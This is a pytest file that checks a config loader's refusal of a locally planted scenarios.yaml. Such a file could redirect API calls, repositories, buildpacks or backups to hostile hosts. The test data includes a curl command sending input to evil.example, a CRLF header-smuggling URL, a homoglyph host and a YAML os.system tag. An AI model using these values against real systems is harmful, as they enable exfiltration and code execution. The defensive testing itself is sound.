"""Which scenarios.yaml may decide where requests, credentials or code go: never one that merely lies there."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from uscdr.decisions import notice
from uscdr.errors import BadInput, ConfigError
from uscdr.models.destination import destinations
from uscdr.scenarios.model import Config
from uscdr.targets import load_config, packaged

EVIL = "http://127.0.0.1:9"
HEROKU = "heroku: {app: usc-pis"
T = "targets.production."

WAYS: dict[str, tuple[str, str, str]] = {
    "another host": (HEROKU + "}", HEROKU + ", api_url: https://evil.example}", T + "heroku.api_url"),
    "a host that looks alike": (HEROKU + "}", HEROKU + ", api_url: https://api.heroku.com.evil}", T + "heroku.api_url"),
    "another port": (HEROKU + "}", HEROKU + ", api_url: https://api.heroku.com:444}", T + "heroku.api_url"),
    "plain http": (HEROKU + "}", HEROKU + ", api_url: http://api.heroku.com}", T + "heroku.api_url"),
    "this machine": (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}", T + "heroku.api_url"),
    "this machine, IPv6": (HEROKU + "}", HEROKU + ', api_url: "http://[::1]:9"}', T + "heroku.api_url"),
    "the data API": (HEROKU + "}", HEROKU + f", data_url: {EVIL}" + "}", T + "heroku.data_url"),
    "a status page": (HEROKU + "}", HEROKU + f", status_url: {EVIL}" + "}", T + "heroku.status_url"),
    "an authority": ("dns: {adapter: manual", "ca_file: ./evil.pem\n    dns: {adapter: manual", T + "ca_file"),
    "the website": ("dns: {adapter: manual", f"web: {EVIL}\n    dns: {{adapter: manual", T + "web"),
    "the mail account": ("dns: {adapter: manual", f"mail: {{token_url: {EVIL}}}\n    dns: {{adapter: manual", T + "mail.token_url"),
    "the certificates": ("dns: {adapter: manual", 'tls_server: "127.0.0.1:9"\n    dns: {adapter: manual', T + "tls_server"),
    "the media API": ("{cloud: usc-pis}", f"{{cloud: usc-pis, api_url: {EVIL}}}", T + "cloudinary.api_url"),
    "the media's delivery": ("{cloud: usc-pis}", f"{{cloud: usc-pis, delivery_url: {EVIL}}}", T + "cloudinary.delivery_url"),
    "the DNS API": ("dns: {adapter: manual,", f"dns: {{adapter: cloudflare, api_url: {EVIL},", T + "dns.api_url"),
    "the DNS primary": ("dns: {adapter: manual,", "dns: {adapter: rfc2136, server: 127.0.0.1, key_name: k,", T + "dns.server"),
    "name servers": ("dns: {adapter: manual,", 'dns: {adapter: manual, name_servers: ["127.0.0.1:9"],', T + "dns.name_servers"),
    "the repository": ("app:\n", f"app:\n  source: {{git: {EVIL}/x.git}}\n", "app.source.git"),
    "the repository's status page": (
        "app:\n", f"app:\n  source: {{git: .., status_url: {EVIL}}}\n", "app.source.status_url"),
    "a command in the dyno": (
        "manage: python backend/manage.py", 'manage: "curl -d @- evil.example; python manage.py"', "app.manage"),
    "the kits' bucket": ("version: 1\n", "version: 1\nkit: {to: s3://evil}\n", "kit.to"),
    "who opens kits": ("version: 1\n", "version: 1\nkit: {recipients: [age1evil]}\n", "kit.recipients"),
    "the copies' bucket": ("version: 1\n", "version: 1\nvault: {to: gs://evil}\n", "vault.to"),
    "who opens copies": ("version: 1\n", "version: 1\nvault: {recipients: [ssh-ed25519 evil]}\n", "vault.recipients"),
    "a buildpack": ("[heroku/nodejs, heroku/python]", "[https://evil.example/pack.tgz]", "recovery.buildpacks"),
    "a buildpack of the registry": ("[heroku/nodejs, heroku/python]", "[evil/python]", "recovery.buildpacks"),
    "somebody else's database": ("recovery:\n", "recovery:\n  addons: [evil-postgresql:free]\n", "recovery.addons"),
    "which variable goes out": (
        "    kind: mail\n", "    kind: mail\n    client_secret: SECRET_KEY\n", "checks.mail-account.client_secret"),
    "a certificate looked at": ("{kind: tls, days: 14}", "{kind: tls, hostnames: [evil.example]}", "checks.certificate.hostnames"),
}  # fmt: skip


def written(path: Path, *changes: tuple[str, str]) -> Path:
    text = packaged().read_text()
    for old, new in changes:
        assert old in text, old
        text = text.replace(old, new, 1)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


@pytest.fixture(autouse=True)
def _elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "here").mkdir(mode=0o755)
    monkeypatch.chdir(tmp_path / "here")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))


@pytest.mark.parametrize("way", WAYS)
def test_a_file_in_the_current_directory_decides_no_destination(way: str) -> None:
    old, new, key = WAYS[way]
    text = written(Path("scenarios.yaml"), (old, new)).read_text()
    line = text[: text.index(key.rpartition(".")[2] + ":", text.index(new))].count("\n") + 1
    with pytest.raises(ConfigError) as refused:
        load_config(None, {})
    assert f"{key} (line {line})" in refused.value.message
    assert "uscdr --config ./scenarios.yaml" in refused.value.next_action
    assert "evil" not in f"{refused.value}{refused.value.why}{refused.value.next_action}".replace(key, "")


@pytest.mark.parametrize("way", WAYS)
def test_the_same_file_named_or_kept_by_the_user_is_taken_and_said(way: str, tmp_path: Path) -> None:
    old, new, key = WAYS[way]
    here = written(Path("scenarios.yaml"), (old, new))
    users = written(tmp_path / "config" / "uscdr" / "scenarios.yaml", (old, new))
    named = [load_config(here, {}), load_config(None, {"USCDR_CONFIG": str(here)})]
    here.unlink()
    for loaded in (*named, load_config(None, {})):
        said = notice(loaded)
        assert said.startswith(f"Configuration: {loaded.path.absolute()} decides where requests go: "), said
        assert key in said
        assert "\n" not in said
    assert users.exists()


GOOD = (
    ("app: usc-pis}", "app: other-clinic}"),
    ("{cloud: usc-pis}", "{cloud: other-cloud}"),
    ("zone: usc-pis.example}", "zone: clinic.example, hostnames: [www.clinic.example]}"),
    ('equals: "0"', 'equals: "1"'),
    (
        "contacts:\n  - {role: System Administrator}",
        'contacts:\n  - {role: System Administrator, name: Ada, how: "+1"}',
    ),
    ("version: 1\n", "version: 1\nkit: {to: /mnt/safe}\nvault: {to: safe, every: 2h}\n"),
    ("homepage:\n    kind: http\n    path: /\n", "homepage:\n    kind: http\n    path: /start/\n"),
    ("manage: python backend/manage.py", "manage: python3 manage.py"),
    ("app: usc-pis-recovery", "app: clinic-recovery"),
    ("[heroku/nodejs, heroku/python]", '[heroku/python]\n  addons: ["heroku-postgresql:standard-0"]'),
)


def test_one_that_only_names_and_checks_is_taken_in_silence() -> None:
    written(Path("scenarios.yaml"), *GOOD)
    loaded = load_config(None, {})
    assert loaded.config.targets["production"].heroku.app == "other-clinic"
    assert loaded.own
    assert not notice(loaded)


def test_the_providers_own_addresses_may_be_written_out() -> None:
    written(Path("scenarios.yaml"), (HEROKU + "}", HEROKU + ", api_url: https://api.heroku.com}"))
    assert not load_config(None, {}).decides


def test_a_link_to_another_file_is_judged_by_where_it_lies(tmp_path: Path) -> None:
    real = written(tmp_path / "elsewhere" / "any.yaml", (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}"))
    Path("scenarios.yaml").symlink_to(real)
    with pytest.raises(ConfigError, match=r"targets\.production\.heroku\.api_url"):
        load_config(None, {})


def test_merged_and_repeated_parts_are_looked_through() -> None:
    evil = f"production: &evil\n    web: {EVIL}"
    written(Path("scenarios.yaml"), ("production:", evil), ("contacts:\n", "  second:\n    <<: *evil\ncontacts:\n"))
    with pytest.raises(ConfigError) as refused:
        load_config(None, {})
    assert "targets.production.web" in refused.value.message
    assert "targets.second.web" in refused.value.message


def test_in_the_users_own_directory_the_file_is_the_users(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    users = written(
        tmp_path / "config" / "uscdr" / "scenarios.yaml", (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}")
    )
    monkeypatch.chdir(users.parent)
    assert notice(load_config(None, {}))


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (os.mkfifo, "it is a named pipe"),
        (Path.mkdir, "it is a directory"),
        (lambda path: path.symlink_to("/dev/zero"), "it is a device"),
        (lambda path: path.symlink_to("nowhere"), "No such file"),
    ],
)
def test_what_has_the_name_and_is_no_file_is_refused(make: object, words: str) -> None:
    make(Path("scenarios.yaml"))  # type: ignore[operator]
    with pytest.raises(ConfigError, match=words):
        load_config(None, {})


@pytest.mark.parametrize(("mode", "of"), [(0o664, "file"), (0o646, "file"), (0o775, "directory"), (0o757, "directory")])
def test_a_named_file_that_others_may_write_decides_nothing(mode: int, of: str, tmp_path: Path) -> None:
    path = written(tmp_path / "named" / "own.yaml", (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}"))
    changed = path if of == "file" else path.parent
    changed.chmod(mode)
    with pytest.raises(ConfigError) as refused:
        load_config(path, {})
    assert refused.value.message.endswith(f"others may write {changed}.")
    assert refused.value.next_action.endswith(f"chmod go-w {changed}")
    changed.chmod(mode & 0o755)
    assert notice(load_config(path, {}))


def test_others_may_write_a_named_file_that_decides_nothing(tmp_path: Path) -> None:
    path = written(tmp_path / "own.yaml", *GOOD)
    path.chmod(0o666)
    assert not notice(load_config(path, {}))


def test_a_directory_where_everybody_keeps_their_own_files_will_do(tmp_path: Path) -> None:
    path = written(tmp_path / "tmp" / "own.yaml", (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}"))
    path.parent.chmod(0o1777)
    assert notice(load_config(path, {}))


@pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files away")
def test_a_named_file_of_somebody_else_decides_nothing(tmp_path: Path) -> None:
    path = written(tmp_path / "own.yaml", (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}"))
    os.chown(path, 1234, -1)
    with pytest.raises(ConfigError, match=r"belongs to another user \(uid 1234\)"):
        load_config(path, {})


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        (HEROKU + "}", HEROKU + ', api_url: "https://api.heroku.com@evil.example"}', "holds no user name"),
        (HEROKU + "}", HEROKU + ', api_url: "https://user:hunter2@api.heroku.com"}', "holds no user name"),
        (HEROKU + "}", HEROKU + ', api_url: "https://\u0430pi.heroku.com"}', "letters beyond a-z"),
        (HEROKU + "}", HEROKU + ', api_url: "https://api.heroku.com\\r\\nHost: evil"}', "control character"),
        (HEROKU + "}", HEROKU + ', api_url: "https://a", api_url: "https://b"}', "stands twice"),
        (HEROKU + "}", HEROKU + ", api_url: !!python/name:os.system x}", ""),
        ("  production:", "  sandbox:", "`sandbox` is built in"),
        ("zone: usc-pis.example}", "zone: 0.0.1, hostnames: [127.0.0.1]}", "is an address, no host name"),
        ("follow: /api/", "follow: https://evil.example/api/", "another form"),
        ("version: 1\n", "version: 1\ninclude: /etc/evil.yaml\n", "`include` is not known"),
        (HEROKU + "}", HEROKU + ", token_env: AWS_SECRET_ACCESS_KEY}", "`token_env` is not known"),
    ],
)
def test_wherever_it_lies_it_holds_no_trick(old: str, new: str, words: str, tmp_path: Path) -> None:
    path = written(tmp_path / "own.yaml", (old, new))
    with pytest.raises(BadInput) as refused:
        load_config(path, {})
    assert words in refused.value.message, refused.value.message
    assert "hunter2" not in f"{refused.value.message}{refused.value.why}{refused.value.next_action}"


def test_every_field_that_names_a_place_is_marked() -> None:
    """A field that is added later, and tells where something goes, is not forgotten."""
    told = {
        name for name in _fields(Config) if name.endswith(("_url", "server", "servers", "git", "_file", "recipients"))
    }
    assert told == {
        "api_url", "data_url", "status_url", "delivery_url", "token_url", "server", "name_servers", "tls_server",
        "git", "ca_file", "recipients",
    }  # fmt: skip
    unmarked = {name for name in told if not all(_fields(Config)[name])}
    assert not unmarked
    assert not list(destinations(load_config(packaged(), {}).config))


def _fields(model: type, seen: dict[str, list[bool]] | None = None) -> dict[str, list[bool]]:
    """Every field below a model, and whether each of that name is marked."""
    from pydantic import BaseModel

    from uscdr.models.destination import Destination

    found = {} if seen is None else seen
    for name, field in getattr(model, "model_fields", {}).items():
        found.setdefault(name, []).append(any(isinstance(one, Destination) for one in field.metadata))
        for inner in _models_in(field.annotation):
            if issubclass(inner, BaseModel):
                _fields(inner, found)
    return found


def _models_in(annotation: object) -> list[type]:
    from typing import get_args

    if isinstance(annotation, type) and not get_args(annotation):
        return [annotation]
    return [one for part in get_args(annotation) for one in _models_in(part)]
